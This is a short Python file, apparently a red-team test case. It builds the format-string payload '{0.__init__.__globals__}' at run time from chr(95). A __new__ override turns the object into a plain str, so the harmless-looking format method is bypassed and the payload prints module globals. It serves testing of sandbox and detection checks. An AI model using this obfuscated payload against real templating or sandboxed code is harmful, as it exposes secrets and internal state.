# family: red team, round 60b (base __new__ returns its argument (a str built at run time))
class K:
    def __init__(self):
        self.v = 1


class Base:
    def __new__(cls, text):
        return text


class Tpl(Base):
    def format(self, *args):
        return "plain"


u = chr(len("x" * 95)) * 2
t = Tpl("{0." + u + "init" + u + "." + u + "globals" + u + "}")
print(t.format(K()))
